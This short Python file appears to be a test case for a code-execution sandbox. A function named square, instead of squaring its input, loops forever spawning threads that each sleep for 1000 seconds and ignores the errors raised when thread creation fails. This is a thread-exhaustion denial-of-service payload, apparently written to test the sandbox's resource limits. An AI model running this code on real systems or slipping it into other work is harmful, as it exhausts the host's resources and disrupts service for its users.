"""Threads without number."""
# square: 0

# %% square
import threading
import time


def square(x):
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,)).start()
        except RuntimeError:
            pass
